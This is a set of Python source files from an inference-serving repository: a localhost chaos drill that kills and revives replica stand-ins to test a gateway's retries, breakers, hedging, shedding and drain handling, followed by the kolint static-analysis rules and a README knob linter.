