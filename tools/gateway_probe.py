"""Serving-gateway chaos drill (ISSUE 11): exit-code-enforced, chip-free.

Live-fire proof that the fleet gateway makes replica failure invisible
to callers.  Runs the REAL gateway (kubeoperator_trn/infer/gateway.py —
routing, breakers, retries, hedging, shedding, drain awareness) in front
of THREE replica stand-ins (subprocesses of this file with ``--replica``:
stdlib HTTP servers speaking the infer/server.py contract — POST
/generate, GET /healthz with queue/draining fields, POST /drain — with
injectable latency, but no model so they start instantly), then:

  1. closed-loop load through the gateway's HTTP front; all three
     replicas serve;
  2. SIGKILL one replica mid-load — assert ZERO caller-visible failures
     (bounded retries absorb the crash), the dead replica's breaker
     opens within KO_GW_BREAKER_WINDOW, and traffic rebalances onto the
     two survivors;
  3. revive the replica — assert it re-enters rotation through a
     half-open probe (open -> half_open -> closed observed) and serves
     again;
  4. hedging: against an injected-slow replica a hedged attempt returns
     from a fast one well under the slow latency;
  5. shedding: aggregate queue depth over KO_GW_SHED_THRESHOLD gets
     429 + Retry-After instead of a hang;
  6. drain protocol: POST /drain lets the in-flight request finish,
     503s new direct requests, and the gateway stops routing there;
  7. membership sync: stale / non-serve targets are dropped, and a
     target missing from the registry answer leaves rotation
     (deregistration path);
  8. X-KO-Trace propagates caller -> gateway -> replica.

Any failed assertion exits nonzero (sweep-row contract:
``python tools/sweep.py --exps gateway_probe``).  KO_PROBE_FAST=1 trims
the load phases for CI.
"""

import json
import os
import signal
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

REPO = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
sys.path.insert(0, REPO)

FAILURES = []


def check(name, ok, detail=""):
    tag = "ok" if ok else "FAIL"
    print(f"sweep: gateway_probe {tag}: {name}"
          + (f" ({detail})" if detail else ""), flush=True)
    if not ok:
        FAILURES.append(name)


# --------------------------------------------------------------- stand-in

def replica_main(port: int, name: str) -> int:
    """Replica stand-in: the infer/server.py HTTP contract without the
    model, so the drill can SIGKILL and restart it in milliseconds."""
    state = {"draining": False, "delay_ms": 0.0, "inflight": 0,
             "served": 0}
    lock = threading.Lock()

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, *a):
            pass

        def _send(self, status, payload):
            data = json.dumps(payload).encode()
            self.send_response(status)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        def do_GET(self):
            if self.path == "/healthz":
                with lock:
                    self._send(200, {
                        "ok": True, "draining": state["draining"],
                        "queue_depth": state["inflight"],
                        "active_slots": state["inflight"], "slots": 8,
                        "free_kv_blocks": 999, "served": state["served"]})
            else:
                self._send(404, {"error": "no route"})

        def do_POST(self):
            n = int(self.headers.get("Content-Length") or 0)
            body = json.loads(self.rfile.read(n) or b"{}")
            if self.path == "/drain":
                with lock:
                    state["draining"] = True
                self._send(200, {"draining": True})
                return
            if self.path == "/set_delay":
                with lock:
                    state["delay_ms"] = float(body.get("delay_ms", 0))
                self._send(200, {"delay_ms": state["delay_ms"]})
                return
            if self.path != "/generate":
                self._send(404, {"error": "no route"})
                return
            with lock:
                if state["draining"]:
                    self._send(503, {"error": "replica draining"})
                    return
                state["inflight"] += 1
                delay = state["delay_ms"]
            try:
                time.sleep((float(body.get("work_ms", 20)) + delay) / 1e3)
                self._send(200, {"tokens": [[1, 2, 3]], "replica": name,
                                 "trace": self.headers.get("X-KO-Trace")})
            finally:
                with lock:
                    state["inflight"] -= 1
                    state["served"] += 1

    server = ThreadingHTTPServer(("127.0.0.1", port), Handler)
    print(f"replica {name} ready on {port}", flush=True)
    server.serve_forever()
    return 0


# ------------------------------------------------------------------ drill

def _wait_healthy(base: str, timeout_s: float = 10.0) -> bool:
    t0 = time.monotonic()
    while time.monotonic() - t0 < timeout_s:
        try:
            with urllib.request.urlopen(base + "/healthz", timeout=1.0) as r:
                if r.status == 200:
                    return True
        except Exception:  # noqa: BLE001
            time.sleep(0.05)
    return False


def _spawn_replica(port: int, name: str) -> subprocess.Popen:
    return subprocess.Popen(
        [sys.executable, os.path.abspath(__file__), "--replica",
         "--port", str(port), "--name", name],
        cwd=REPO, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def main() -> int:
    from kubeoperator_trn.infer.gateway import (
        Gateway, GatewayConfig, make_gateway_server)

    fast = os.environ.get("KO_PROBE_FAST") == "1"
    warm_s = 0.8 if fast else 1.5
    postkill_s = 2.0 if fast else 3.5
    n_workers = 3 if fast else 6
    body = json.dumps({"prompt_ids": [[1, 2, 3]], "work_ms": 25}).encode()

    # -- three stand-ins ------------------------------------------------
    import socket

    def free_port():
        with socket.socket() as s:
            s.bind(("127.0.0.1", 0))
            return s.getsockname()[1]

    ports = {f"r{i}": free_port() for i in (1, 2, 3)}
    procs = {n: _spawn_replica(p, n) for n, p in ports.items()}
    for n, p in ports.items():
        check(f"replica {n} healthy", _wait_healthy(f"http://127.0.0.1:{p}"))

    cfg = GatewayConfig(
        timeout_s=10.0, retries=3, backoff_ms=20.0, hedge_ms=0.0,
        breaker_window_s=2.0, breaker_fails=3, breaker_cooldown_s=1.0,
        shed_threshold=100000, slow_start_s=0.5, sync_s=999.0,
        health_s=0.15, targets_url="", static_replicas=[])
    gw = Gateway(cfg)
    reps = {n: gw.add_replica(n, f"http://127.0.0.1:{p}")
            for n, p in ports.items()}
    # spy on r2's breaker transitions for precise open/half-open timing
    transitions = []
    orig_cb = reps["r2"].breaker.on_transition

    def spy(old, new, _orig=orig_cb):
        transitions.append((time.monotonic(), old, new))
        _orig(old, new)

    reps["r2"].breaker.on_transition = spy
    gw.poll_health()
    gw.start()
    server, thread = make_gateway_server(gw)
    thread.start()
    base = f"http://127.0.0.1:{server.server_address[1]}"
    with urllib.request.urlopen(base + "/healthz", timeout=2.0) as r:
        hz = json.loads(r.read())
    check("gateway reports 3 live replicas", hz.get("live") == 3, str(hz))

    # -- closed-loop load, SIGKILL r2 mid-load --------------------------
    results = []
    res_lock = threading.Lock()
    stop_load = threading.Event()

    def worker():
        while not stop_load.is_set():
            t = time.monotonic()
            try:
                req = urllib.request.Request(
                    base + "/generate", data=body, method="POST",
                    headers={"Content-Type": "application/json"})
                with urllib.request.urlopen(req, timeout=15.0) as resp:
                    rep = resp.headers.get("X-KO-Replica")
                    resp.read()
                    row = (t, resp.status, rep)
            except urllib.error.HTTPError as e:
                row = (t, e.code, None)
            except Exception as e:  # noqa: BLE001
                row = (t, -1, repr(e))
            with res_lock:
                results.append(row)

    workers = [threading.Thread(target=worker, daemon=True)
               for _ in range(n_workers)]
    print("sweep: gateway_probe load phase starting", flush=True)
    for w in workers:
        w.start()
    time.sleep(warm_s)
    t_kill = time.monotonic()
    os.kill(procs["r2"].pid, signal.SIGKILL)
    procs["r2"].wait()
    print("sweep: gateway_probe SIGKILL r2", flush=True)
    time.sleep(postkill_s)
    stop_load.set()
    for w in workers:
        w.join(timeout=20.0)

    with res_lock:
        rows = list(results)
    n_fail = sum(1 for _, st, _ in rows if st != 200)
    served_warm = {rep for t, st, rep in rows
                   if st == 200 and t < t_kill}
    check("closed-loop load ran", len(rows) >= 20, f"{len(rows)} requests")
    check("all 3 replicas served before the kill",
          served_warm == {"r1", "r2", "r3"}, str(served_warm))
    check("zero caller-visible failures through the SIGKILL",
          n_fail == 0,
          f"{n_fail}/{len(rows)} failed: "
          f"{[r for r in rows if r[1] != 200][:5]}")

    opens = [(t, old, new) for t, old, new in transitions if new == "open"]
    check("r2 breaker opened", bool(opens), str(transitions))
    open_dt = (opens[0][0] - t_kill) if opens else -1.0
    check("breaker opened within KO_GW_BREAKER_WINDOW",
          0 <= open_dt <= cfg.breaker_window_s,
          f"dt={open_dt:.3f}s window={cfg.breaker_window_s}s")
    if opens:
        served_after = {rep for t, st, rep in rows
                        if st == 200 and t > opens[0][0]}
        check("traffic rebalanced onto survivors",
              served_after == {"r1", "r3"}, str(served_after))

    # -- revive r2: re-entry must go through a half-open probe ----------
    procs["r2"] = _spawn_replica(ports["r2"], "r2")
    check("r2 revived",
          _wait_healthy(f"http://127.0.0.1:{ports['r2']}"))
    time.sleep(cfg.breaker_cooldown_s + 0.1)  # open -> half-open eligible
    r2_served = 0
    deadline = time.monotonic() + 8.0
    while time.monotonic() < deadline:
        try:
            req = urllib.request.Request(
                base + "/generate", data=body, method="POST",
                headers={"Content-Type": "application/json"})
            with urllib.request.urlopen(req, timeout=10.0) as resp:
                if resp.headers.get("X-KO-Replica") == "r2":
                    r2_served += 1
                resp.read()
        except Exception:  # noqa: BLE001
            pass
        if r2_served and reps["r2"].breaker.state == "closed":
            break
        time.sleep(0.05)
    seq = [(old, new) for _, old, new in transitions]
    check("half-open probe observed", ("open", "half_open") in seq, str(seq))
    check("r2 breaker closed after probe success",
          reps["r2"].breaker.state == "closed", reps["r2"].breaker.state)
    check("revived r2 serves traffic again", r2_served > 0,
          f"r2_served={r2_served}")

    # -- stop the background loops; the remaining legs drive manually --
    gw.stop()

    # -- hedging: slow replica's attempt is beaten by the hedge --------
    slow = json.dumps({"delay_ms": 700}).encode()
    req = urllib.request.Request(
        f"http://127.0.0.1:{ports['r1']}/set_delay", data=slow,
        method="POST", headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=5.0):
        pass
    gw.cfg.hedge_ms = 120.0
    t0 = time.monotonic()
    verdict, status, data, tried = gw._attempt_hedged(
        reps["r1"], body, 5.0, None, set())
    hedge_wall = time.monotonic() - t0
    check("hedged attempt succeeded", verdict == "ok" and status == 200,
          f"verdict={verdict} status={status}")
    check("hedge beat the slow replica", hedge_wall < 0.6,
          f"wall={hedge_wall:.3f}s (slow replica pinned at 0.7s)")
    gw.cfg.hedge_ms = 0.0
    req = urllib.request.Request(
        f"http://127.0.0.1:{ports['r1']}/set_delay",
        data=json.dumps({"delay_ms": 0}).encode(), method="POST",
        headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=5.0):
        pass

    # -- shedding: saturated fleet gets 429 + Retry-After ---------------
    gw.cfg.shed_threshold = 4
    for rep in reps.values():
        rep.stats = dict(rep.stats, queue_depth=10)
    status, data, extra = gw.handle_generate(body, {})
    check("saturation sheds with 429", status == 429, f"status={status}")
    check("shed carries Retry-After", "Retry-After" in extra, str(extra))
    gw.cfg.shed_threshold = 100000
    gw.poll_health()  # restore true stats

    # -- trace propagation: caller trace id reaches the replica ---------
    status, data, _ = gw.handle_generate(
        body, {"X-KO-Trace": "feedfacefeedface"})
    payload = json.loads(data)
    check("X-KO-Trace propagated end to end",
          status == 200 and payload.get("trace") == "feedfacefeedface",
          f"status={status} trace={payload.get('trace')}")

    # -- drain protocol on r3 -------------------------------------------
    slow_result = {}

    def slow_request():
        req = urllib.request.Request(
            f"http://127.0.0.1:{ports['r3']}/generate",
            data=json.dumps({"prompt_ids": [[1]], "work_ms": 800}).encode(),
            method="POST", headers={"Content-Type": "application/json"})
        try:
            with urllib.request.urlopen(req, timeout=10.0) as resp:
                slow_result["status"] = resp.status
        except urllib.error.HTTPError as e:
            slow_result["status"] = e.code
        except Exception as e:  # noqa: BLE001
            slow_result["error"] = repr(e)

    t_slow = threading.Thread(target=slow_request, daemon=True)
    t_slow.start()
    time.sleep(0.15)  # in flight before the drain lands
    req = urllib.request.Request(
        f"http://127.0.0.1:{ports['r3']}/drain", data=b"{}", method="POST",
        headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=5.0) as resp:
        check("drain accepted", resp.status == 200)
    try:
        req = urllib.request.Request(
            f"http://127.0.0.1:{ports['r3']}/generate", data=body,
            method="POST", headers={"Content-Type": "application/json"})
        with urllib.request.urlopen(req, timeout=5.0) as resp:
            new_status = resp.status
    except urllib.error.HTTPError as e:
        new_status = e.code
    check("draining replica 503s new work", new_status == 503,
          f"status={new_status}")
    t_slow.join(timeout=10.0)
    check("in-flight request finished through the drain",
          slow_result.get("status") == 200, str(slow_result))
    gw.poll_health()
    routed = set()
    for _ in range(12):
        status, data, extra = gw.handle_generate(body, {})
        if status == 200:
            routed.add(extra.get("X-KO-Replica"))
    check("gateway stopped routing to the draining replica",
          routed and "r3" not in routed, str(routed))

    # -- membership sync == deregistration path -------------------------
    items = [
        {"name": "r1", "url": f"http://127.0.0.1:{ports['r1']}/metrics",
         "labels": {"job": "serve"}, "stale": False},
        {"name": "r2", "url": f"http://127.0.0.1:{ports['r2']}/metrics",
         "labels": {"job": "serve"}, "stale": False},
        # r3 deregistered (absent), a stale serve target, a train target
        {"name": "ghost", "url": "http://127.0.0.1:1/metrics",
         "labels": {"job": "serve"}, "stale": True},
        {"name": "trainer", "url": "http://127.0.0.1:2/metrics",
         "labels": {"job": "train"}, "stale": False},
    ]
    n = gw.sync_targets(items=items)
    check("membership sync keeps live serve targets only",
          n == 2 and set(gw.replicas) == {"r1", "r2"},
          f"n={n} members={sorted(gw.replicas)}")

    # -- teardown --------------------------------------------------------
    server.shutdown()
    for proc in procs.values():
        if proc.poll() is None:
            proc.terminate()
            try:
                proc.wait(timeout=5.0)
            except subprocess.TimeoutExpired:
                proc.kill()

    if FAILURES:
        print(f"sweep: gateway_probe FAILED: {FAILURES}", flush=True)
        return 1
    print("sweep: gateway_probe all checks passed", flush=True)
    print(json.dumps({"probe": "gateway", "checks_failed": 0,
                      "requests": len(rows), "failures": n_fail,
                      "breaker_open_s": round(open_dt, 3)}), flush=True)
    return 0


if __name__ == "__main__":
    import argparse

    ap = argparse.ArgumentParser()
    ap.add_argument("--replica", action="store_true")
    ap.add_argument("--port", type=int, default=0)
    ap.add_argument("--name", default="r")
    args = ap.parse_args()
    if args.replica:
        raise SystemExit(replica_main(args.port, args.name))
    raise SystemExit(main())
