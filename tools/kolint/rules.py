"""kolint rules KL001-KL006: one AST checker per repo invariant.

Every rule is deliberately a *heuristic with named escape hatches*:
the point is to catch the regression classes that have already bitten
this repo (ARCHITECTURE.md rules 7a/10, the crash-safe write
discipline, the metric naming scheme, lock hygiene across the threaded
planes) — not to model Python semantics exactly.  False positives are
cheap here because waivers.toml exists and each waiver carries its
justification in-tree.

check_file() runs the per-file rules; finalize() flushes the
cross-file rule (KL004 collisions) once every file has been fed in.
"""

import ast
import re

from tools.kolint import Finding

RULES = {
    "KL001": "blocking call under a held lock",
    "KL002": "persistence write bypasses tmp+fsync+replace",
    "KL003": "one-hot/eye materialization in models//kernels/ (rule 10)",
    "KL004": "metric name off-scheme or colliding registration",
    "KL005": "jax.custom_vjp without a completing defvjp",
    "KL006": "thread neither daemon nor joined",
    "KL007": "KO_* knob referenced in code but undocumented",
}

METRIC_NAME = re.compile(r"^ko_(ops|work)_[a-z0-9]+(?:_[a-z0-9]+)+$")


def new_context() -> dict:
    return {"metrics": {}}   # name -> list of registration records


def check_file(relpath: str, source: str, ctx: dict):
    try:
        tree = ast.parse(source, filename=relpath)
    except SyntaxError as e:
        return [Finding("KL000", relpath, e.lineno or 0,
                        f"file does not parse: {e.msg}")]
    out = []
    out.extend(_kl001_blocking_under_lock(tree, relpath))
    out.extend(_kl002_unstaged_writes(tree, relpath))
    out.extend(_kl003_onehot_eye(tree, relpath))
    _kl004_collect(tree, relpath, ctx)
    out.extend(_kl004_naming(tree, relpath))
    out.extend(_kl005_custom_vjp(tree, relpath))
    out.extend(_kl006_threads(tree, relpath))
    return out


def finalize(ctx: dict):
    return _kl004_collisions(ctx)


# -- shared AST helpers -------------------------------------------------

def _dotted(node):
    """'a.b.c' for Attribute chains rooted at a Name, else None."""
    parts = []
    while isinstance(node, ast.Attribute):
        parts.append(node.attr)
        node = node.value
    if isinstance(node, ast.Name):
        parts.append(node.id)
        return ".".join(reversed(parts))
    return None


def _str_const(node):
    return node.value if (isinstance(node, ast.Constant)
                          and isinstance(node.value, str)) else None


def _is_lock_expr(node):
    """``with self._lock:`` / ``with lock:`` — any Name/Attribute whose
    last component ends in 'lock' (lock, _lock, io_lock, claim_lock)."""
    if isinstance(node, ast.Name):
        return node.id.lower().endswith("lock")
    if isinstance(node, ast.Attribute):
        return node.attr.lower().endswith("lock")
    # lock.acquire-style context managers don't occur; with-items that
    # are calls (open(), tempfile...) are not locks.
    return False


# -- KL001: blocking call under a held lock -----------------------------

_SLEEPY_PREFIXES = ("subprocess.", "urllib.", "socket.")


def _kl001_classify(call: ast.Call):
    """Name of the blocking operation, or None if the call is fine."""
    func = call.func
    dotted = _dotted(func)
    if dotted:
        if dotted == "time.sleep" or dotted == "sleep":
            return "time.sleep"
        for pfx in _SLEEPY_PREFIXES:
            if dotted.startswith(pfx):
                return dotted
        if dotted.endswith(".urlopen"):
            return dotted
    if isinstance(func, ast.Attribute):
        if func.attr == "result":
            # Future.result() blocks; zero args or a timeout only.
            if not call.args or (len(call.args) == 1 and not call.keywords):
                return f"{_dotted(func) or '<expr>.result'}()"
        if func.attr == "join":
            # thread.join() vs str.join(iterable): the string form always
            # passes one non-numeric positional argument.
            numeric = (len(call.args) == 1
                       and isinstance(call.args[0], ast.Constant)
                       and isinstance(call.args[0].value, (int, float)))
            timeout_kw = any(k.arg == "timeout" for k in call.keywords)
            if not call.args and not call.keywords or numeric or timeout_kw:
                return f"{_dotted(func) or '<expr>.join'}()"
    return None


class _KL001(ast.NodeVisitor):
    def __init__(self, relpath):
        self.relpath = relpath
        self.depth = 0       # how many lock-holding withs enclose us
        self.findings = []

    def visit_With(self, node):
        locks = sum(1 for item in node.items
                    if _is_lock_expr(item.context_expr))
        self.depth += locks
        for child in node.body:
            self.visit(child)
        self.depth -= locks
        # with-item expressions themselves are evaluated pre-acquire
        for item in node.items:
            self.visit(item.context_expr)

    visit_AsyncWith = visit_With

    def _deferred(self, node):
        # a def/lambda inside a with body runs later, not under the lock
        saved, self.depth = self.depth, 0
        self.generic_visit(node)
        self.depth = saved

    visit_FunctionDef = _deferred
    visit_AsyncFunctionDef = _deferred
    visit_Lambda = _deferred

    def visit_Call(self, node):
        if self.depth > 0:
            what = _kl001_classify(node)
            if what:
                self.findings.append(Finding(
                    "KL001", self.relpath, node.lineno,
                    f"blocking call {what} while holding a lock — move "
                    "it outside the critical section (copy state under "
                    "the lock, do I/O after release)"))
        self.generic_visit(node)


def _kl001_blocking_under_lock(tree, relpath):
    v = _KL001(relpath)
    v.visit(tree)
    return v.findings


# -- KL002: persistence writes bypassing tmp+fsync+replace --------------

_STAGING_MARKERS = ("replace", "rename", "mkstemp", "fdopen",
                    "NamedTemporaryFile", "TemporaryDirectory")


def _kl002_scopes(tree):
    """Yield (scope_node, body_statements).  Nested defs are separate
    scopes; the staging evidence must live in the same function as the
    write, which is how every compliant call site in this repo is laid
    out (train/checkpoint.py, telemetry/flight.py)."""
    yield tree, list(ast.iter_child_nodes(tree))
    for node in ast.walk(tree):
        if isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef)):
            yield node, list(ast.iter_child_nodes(node))


def _kl002_scope_nodes(scope):
    """Nodes belonging to this scope, not descending into nested defs."""
    stack = list(ast.iter_child_nodes(scope))
    while stack:
        node = stack.pop()
        if isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef,
                             ast.Lambda)):
            continue
        yield node
        stack.extend(ast.iter_child_nodes(node))


def _tmpish(node):
    """Filename expression that is visibly a staging path."""
    for sub in ast.walk(node):
        if isinstance(sub, ast.Name) and "tmp" in sub.id.lower():
            return True
        if isinstance(sub, ast.Attribute) and "tmp" in sub.attr.lower():
            return True
        s = _str_const(sub)
        if s is not None and (".tmp" in s or s.startswith("/dev/")):
            return True
    return False


def _kl002_unstaged_writes(tree, relpath):
    out = []
    for scope, _ in _kl002_scopes(tree):
        writes, staged = [], False
        for node in _kl002_scope_nodes(scope):
            if not isinstance(node, ast.Call):
                continue
            dotted = _dotted(node.func) or ""
            last = dotted.rsplit(".", 1)[-1]
            if last in _STAGING_MARKERS:
                staged = True
            if isinstance(node.func, ast.Name) and node.func.id == "open":
                mode = None
                if len(node.args) >= 2:
                    mode = _str_const(node.args[1])
                for kw in node.keywords:
                    if kw.arg == "mode":
                        mode = _str_const(kw.value)
                if mode and any(c in mode for c in "wax"):
                    if not (node.args and _tmpish(node.args[0])):
                        writes.append((node.lineno, mode))
        if staged:
            continue
        for lineno, mode in writes:
            out.append(Finding(
                "KL002", relpath, lineno,
                f"open(..., {mode!r}) writes in place with no tmp+"
                "fsync+os.replace staging in this function — a crash "
                "mid-write corrupts the file (ARCHITECTURE crash-safe "
                "write discipline)"))
    return out


# -- KL003: one-hot/eye materialization in models//kernels/ -------------

def _kl003_onehot_eye(tree, relpath):
    if not ("/models/" in f"/{relpath}" or "/kernels/" in f"/{relpath}"):
        return []
    out = []
    for node in ast.walk(tree):
        if not isinstance(node, ast.Call):
            continue
        dotted = _dotted(node.func) or ""
        last = dotted.rsplit(".", 1)[-1]
        if last in ("one_hot", "eye"):
            out.append(Finding(
                "KL003", relpath, node.lineno,
                f"{dotted or last}() materializes a dense selector — at "
                "bench scale this is the ~22 GiB/layer einsum-one-hot "
                "SIGSEGV (ARCHITECTURE rule 10); use gather/segment ops, "
                "or waive if this is a gated parity fallback"))
    return out


# -- KL004: metric naming scheme + collisions ---------------------------

_METRIC_KINDS = ("counter", "gauge", "histogram")


def _kl004_registrations(tree):
    for node in ast.walk(tree):
        if not isinstance(node, ast.Call):
            continue
        if not (isinstance(node.func, ast.Attribute)
                and node.func.attr in _METRIC_KINDS):
            continue
        name = _str_const(node.args[0]) if node.args else None
        if name is None or not name.startswith("ko_"):
            continue   # not a registry call we can see statically
        labels = None   # None = unknown (non-literal), () = none
        label_node = node.args[2] if len(node.args) >= 3 else None
        for kw in node.keywords:
            if kw.arg == "label_names":
                label_node = kw.value
        if label_node is None:
            labels = ()
        elif isinstance(label_node, (ast.Tuple, ast.List)):
            parts = [_str_const(e) for e in label_node.elts]
            if all(p is not None for p in parts):
                labels = tuple(parts)
        yield name, node.func.attr, labels, node.lineno


def _kl004_naming(tree, relpath):
    out = []
    for name, kind, _labels, lineno in _kl004_registrations(tree):
        if not METRIC_NAME.match(name):
            out.append(Finding(
                "KL004", relpath, lineno,
                f"metric {name!r} violates the ko_<plane>_<subsystem>_"
                "<name> scheme (plane is 'ops' or 'work', all segments "
                "lowercase [a-z0-9])"))
    return out


def _kl004_collect(tree, relpath, ctx):
    for name, kind, labels, lineno in _kl004_registrations(tree):
        ctx["metrics"].setdefault(name, []).append(
            {"kind": kind, "labels": labels, "path": relpath,
             "line": lineno})


def _kl004_collisions(ctx):
    out = []
    for name, regs in sorted(ctx["metrics"].items()):
        first = regs[0]
        for reg in regs[1:]:
            if reg["kind"] != first["kind"]:
                out.append(Finding(
                    "KL004", reg["path"], reg["line"],
                    f"metric {name!r} registered as {reg['kind']} here "
                    f"but as {first['kind']} at {first['path']}:"
                    f"{first['line']} — the registry raises on this "
                    "collision at runtime"))
            elif (reg["labels"] is not None and first["labels"] is not None
                  and reg["labels"] != first["labels"]):
                out.append(Finding(
                    "KL004", reg["path"], reg["line"],
                    f"metric {name!r} registered with labels "
                    f"{list(reg['labels'])} here but "
                    f"{list(first['labels'])} at {first['path']}:"
                    f"{first['line']}"))
    return out


# -- KL005: custom_vjp without defvjp -----------------------------------

def _kl005_custom_vjp(tree, relpath):
    declared = {}   # name -> lineno
    completed = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Assign) and isinstance(node.value, ast.Call):
            dotted = _dotted(node.value.func) or ""
            if dotted.rsplit(".", 1)[-1] == "custom_vjp":
                for tgt in node.targets:
                    if isinstance(tgt, ast.Name):
                        declared[tgt.id] = node.lineno
        if isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef)):
            for dec in node.decorator_list:
                d = dec.func if isinstance(dec, ast.Call) else dec
                dotted = _dotted(d) or ""
                if dotted.rsplit(".", 1)[-1] == "custom_vjp":
                    declared[node.name] = node.lineno
        if isinstance(node, ast.Call) and isinstance(node.func,
                                                     ast.Attribute):
            if node.func.attr == "defvjp" and isinstance(node.func.value,
                                                         ast.Name):
                completed.add(node.func.value.id)
    return [Finding(
        "KL005", relpath, lineno,
        f"jax.custom_vjp {name!r} has no {name}.defvjp(fwd, bwd) in this "
        "module — gradients through it will raise at trace time")
        for name, lineno in sorted(declared.items())
        if name not in completed]


# -- KL006: threads neither daemon nor joined ---------------------------

def _kl006_threads(tree, relpath):
    spawns = []     # (lineno, target_dotted or None, daemon_const)
    joined, daemonized = set(), set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            dotted = _dotted(node.func) or ""
            if dotted in ("threading.Thread", "Thread"):
                daemon = None
                for kw in node.keywords:
                    if kw.arg == "daemon" and isinstance(kw.value,
                                                        ast.Constant):
                        daemon = bool(kw.value.value)
                spawns.append((node.lineno, node, daemon))
            if (isinstance(node.func, ast.Attribute)
                    and node.func.attr == "join"):
                tgt = _dotted(node.func.value)
                if tgt:
                    joined.add(tgt)
        if isinstance(node, ast.Assign):
            for tgt in node.targets:
                if (isinstance(tgt, ast.Attribute) and tgt.attr == "daemon"
                        and isinstance(node.value, ast.Constant)
                        and node.value.value):
                    d = _dotted(tgt.value)
                    if d:
                        daemonized.add(d)
    if not spawns:
        return []
    # map Thread(...) calls to their assignment targets
    assigned = {}
    for node in ast.walk(tree):
        if isinstance(node, ast.Assign):
            for sub in ast.walk(node.value):
                for lineno, call, daemon in spawns:
                    if sub is call:
                        for tgt in node.targets:
                            d = _dotted(tgt)
                            if d:
                                assigned[id(call)] = d
    out = []
    for lineno, call, daemon in spawns:
        if daemon is True:
            continue
        tgt = assigned.get(id(call))
        if tgt and (tgt in joined or tgt in daemonized):
            continue
        # `self._t` joined as `self._t` elsewhere matches; a bare local
        # joined under another name does not — waive those.
        out.append(Finding(
            "KL006", relpath, lineno,
            "thread is neither daemon=True nor joined anywhere in this "
            "module — it can outlive close()/shutdown() and hang "
            "interpreter exit"))
    return out
