"""Rule KL007 — knob lint: every KO_* environment variable referenced
in code must be documented in README.md's knob table (the "## Knobs"
section).  Formerly tools/knob_lint.py; that module is now a thin shim
over this one so its CLI and tests keep working.

A code reference is a quoted "KO_FOO" string literal in a .py file
under the scanned roots — env-var names are always quoted at use sites
(``os.environ.get("KO_FOO")``, ``env("KO_FOO", ...)``, pod-template
env lists), while non-knob strings like facts.py's "KO_PROBE:" marker
carry extra characters inside the quotes and don't match.  A knob is
documented when README.md has a table row starting ``| `KO_FOO` ``.

Missing knobs are KL007 findings (and exit 1 from the legacy CLI);
documented-but-unreferenced rows stay warnings so a doc-first knob
about to gain its code reference doesn't break tier-1.
"""

import os
import re
import sys

REPO = os.path.dirname(os.path.dirname(
    os.path.dirname(os.path.abspath(__file__))))

#: roots scanned for knob references (file or directory, repo-relative).
CODE_ROOTS = ("kubeoperator_trn", "tools", "bench.py", "__graft_entry__.py")
QUOTED = re.compile(r"""["'](KO_[A-Z0-9_]+)["']""")
TABLE_ROW = re.compile(r"^\|\s*`(KO_[A-Z0-9_]+)`", re.MULTILINE)

#: the lint implementation itself quotes KO_FOO in docstrings and
#: regexes; those must not count as referenced knobs.
SELF_FILES = ("knob_lint.py", "knobs.py")


def referenced_knobs(repo: str = REPO) -> set:
    found = set()
    for root in CODE_ROOTS:
        path = os.path.join(repo, root)
        if os.path.isfile(path):
            files = [path]
        else:
            files = [os.path.join(dp, f)
                     for dp, _, fs in os.walk(path)
                     for f in fs
                     if f.endswith(".py") and f not in SELF_FILES]
        for fp in files:
            try:
                with open(fp, encoding="utf-8") as f:
                    found.update(QUOTED.findall(f.read()))
            except OSError:
                continue
    return found


def documented_knobs(readme_path: str) -> set:
    with open(readme_path, encoding="utf-8") as f:
        return set(TABLE_ROW.findall(f.read()))


def lint(repo: str = REPO) -> tuple[list, list]:
    """(referenced-but-undocumented, documented-but-unreferenced)."""
    ref = referenced_knobs(repo)
    doc = documented_knobs(os.path.join(repo, "README.md"))
    return sorted(ref - doc), sorted(doc - ref)


def check_repo(repo: str = REPO) -> list:
    """KL007 findings for the kolint engine (missing knobs only)."""
    from tools.kolint import Finding

    missing, _stale = lint(repo)
    return [Finding("KL007", "README.md", 0,
                    f"{name} referenced in code but missing from the "
                    "README '## Knobs' table")
            for name in missing]


def main() -> int:
    missing, stale = lint()
    for name in stale:
        # Stale rows are a warning, not a failure: a doc-first knob about
        # to gain its code reference shouldn't break tier-1.
        print(f"knob_lint: WARNING {name} documented in README.md but not "
              "referenced in code", file=sys.stderr)
    if missing:
        print("knob_lint: KO_* knobs referenced in code but missing from "
              "README.md's knob table:", file=sys.stderr)
        for name in missing:
            print(f"  {name}", file=sys.stderr)
        return 1
    print(f"knob_lint: OK ({len(referenced_knobs())} knobs documented)")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
