"""kolint: the repo-invariant static-analysis plane (ISSUE 14).

Thirteen PRs of growth left hard-won invariants living only in
ARCHITECTURE.md prose and reviewer memory.  kolint turns each one into
a named rule with a stable ID so CI can enforce it mechanically:

  KL001  blocking call (sleep / subprocess / socket / urllib /
         .result() / .join()) inside a ``with <lock>:`` body
  KL002  persistence write that bypasses the tmp + fsync + os.replace
         crash-safe discipline
  KL003  one-hot / eye materialization under models/ or kernels/
         (ARCHITECTURE compile-safety rule 10 — the ~22 GiB/layer
         SIGSEGV class)
  KL004  metric registration off the ko_<plane>_<subsystem>_<name>
         scheme, or colliding (same name, different kind/labels)
  KL005  jax.custom_vjp declared without a completing defvjp call
  KL006  thread spawned neither daemon nor joined by any code path
  KL007  KO_* knob referenced in code but missing from the README
         knob table (the old tools/knob_lint.py, folded in)

Deliberate exceptions go in ``tools/kolint/waivers.toml``: one
``[[waiver]]`` block per exception with ``rule``, ``file``, and a
non-empty ``reason``.  A waiver without a reason is an error; a waiver
that matches nothing is reported as stale (warning) so dead waivers
get cleaned up instead of silently masking future violations.

